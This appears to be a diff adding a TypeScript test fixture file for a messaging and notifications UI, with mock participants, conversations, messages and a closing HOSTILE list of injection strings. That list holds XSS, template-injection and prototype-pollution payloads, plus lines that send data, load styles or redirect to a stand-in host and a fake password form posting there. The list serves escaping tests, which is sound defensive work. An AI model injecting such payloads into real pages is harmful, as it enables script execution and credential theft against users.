@@ -1,0 +1,113 @@
+/** Answers of the product API as the demo practice gives them, for pages that are opened in jsdom. */
+import type { ProductSchemas } from 'shared-ui/core';
+import { USER } from 'shared-ui/testing';
+
+type Conversation = ProductSchemas['Conversation'];
+type Message = ProductSchemas['Message'];
+type Notification = ProductSchemas['Notification'];
+
+/** A uuid that ends with this number. */
+export const uuid = (number: number) => `00000000-0000-4000-8000-${String(number).padStart(12, '0')}`;
+
+const person = (firstName: string, lastName: string) => ({ firstName, lastName }) as ProductSchemas['PersonInfo'];
+
+export const CAMILLE: ProductSchemas['Participant'] = { uuid: USER, personInfo: person('Camille', 'Martin'), colleague: true, readUpTo: 0 };
+export const NORA: ProductSchemas['Participant'] = { uuid: uuid(1), personInfo: person('Nora', 'Faure'), colleague: true, readUpTo: 0 };
+export const ETIENNE: ProductSchemas['Participant'] = {
+  uuid: uuid(2),
+  personInfo: person('Étienne', 'Caron'),
+  practice: 'Cabinet Caron',
+  colleague: false,
+  readUpTo: 0,
+};
+
+export const GROUP = uuid(20);
+
+export const conversation = (more: Partial<Conversation> = {}): Conversation => ({
+  uuid: GROUP,
+  kind: 'group',
+  subject: 'Stérilisation',
+  participants: [CAMILLE, NORA],
+  createdAt: '2026-11-20T08:00:00Z',
+  lastAt: '2026-11-20T09:00:00Z',
+  lastSeq: 2,
+  readUpTo: 2,
+  unread: 0,
+  archived: false,
+  ...more,
+});
+
+/** A page of conversations, with the counts of the chips. */
+export const conversations = (...items: Conversation[]): ProductSchemas['ConversationPage'] => ({
+  items,
+  total: items.length,
+  page: 1,
+  size: 50,
+  counts: { open: items.length, unread: 0, groups: 1, archived: 1 } as ProductSchemas['ConversationCounts'],
+});
+
+/** A message of Nora, or of the reader. */
+export const message = (seq: number, text: string, more: Partial<Message> & { mine?: boolean } = {}): Message => {
+  const { mine = false, ...others } = more;
+  const { uuid: author, personInfo } = mine ? CAMILLE : NORA;
+  return {
+    uuid: uuid(100 + seq),
+    conversationUuid: GROUP,
+    seq,
+    side: 'user',
+    author: { uuid: author, personInfo } as Message['author'],
+    text,
+    at: `2026-11-20T09:${String(seq).padStart(2, '0')}:00Z`,
+    deleted: false,
+    version: 1,
+    attachments: [],
+    mentions: [],
+    links: [],
+    ...others,
+  } as Message;
+};
+
+/** A whole conversation. */
+export const thread = (...items: Message[]) => ({ items, hasBefore: false, hasAfter: false });
+
+export const notification = (number: number, more: Partial<Notification> = {}): Notification => ({
+  uuid: uuid(200 + number),
+  type: 'order',
+  title: 'notifications.order.status',
+  params: { reference: `C26-0000${String(number)}`, status: 'validated' },
+  link: `/mon-cabinet/commande?reference=C26-0000${String(number)}`,
+  at: `2026-11-20T08:0${String(number)}:00Z`,
+  unread: true,
+  ...more,
+});
+
+/** A page of notifications, with its counts. */
+export function notifications(...items: Notification[]): ProductSchemas['NotificationPage'] {
+  const unread = items.filter((one) => one.unread).length;
+  const types = [{ type: 'order' as const, count: items.length, unread }];
+  return { items, total: items.length, page: 1, size: 25, unread, types };
+}
+
+/** Texts that run, load, leave or cover where they are taken for something else than texts. */
+export const HOSTILE = [
+  '<script>window.ran=1</script>',
+  '<img src=x onerror="window.ran=1">',
+  '"><svg/onload=window.ran=1>',
+  "'-window.ran=1-'\"/><b autofocus tabindex=1 onfocus=window.ran=1>",
+  '</textarea></title></style><script>window.ran=1</script>',
+  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
+  '<a href="javascript:window.ran=1">ici</a> javascript:window.ran=1',
+  '[ici](javascript:window.ran=1) ![x](https://evil.example/pixel.png)',
+  '<details open ontoggle=window.ran=1><summary>x</summary></details>',
+  '<math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>',
+  '<base href="https://evil.example/"><link rel=stylesheet href=//evil.example/x.css>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<style>*{display:none!important}</style>',
+  '<form action="https://evil.example"><input name=password><button>Envoyer</button></form>',
+  '<div style="position:fixed;inset:0;z-index:99" id="portal" data-portal="x">x</div>',
+  "{{constructor.constructor('window.ran=1')()}} ${window.ran=1} #{7*7} <%= 7*7 %>",
+  '&lt;script&gt;window.ran=1&lt;/script&gt; &#60;img src=x onerror=window.ran=1&#62;',
+  '{{n}} $t(messages.send) %s %n {name}',
+  '__proto__ constructor toString hasOwnProperty',
+  '\u202Egnp.exe\u202C \u2066\u2067x\u2069 \u200B\uFEFF',
+];
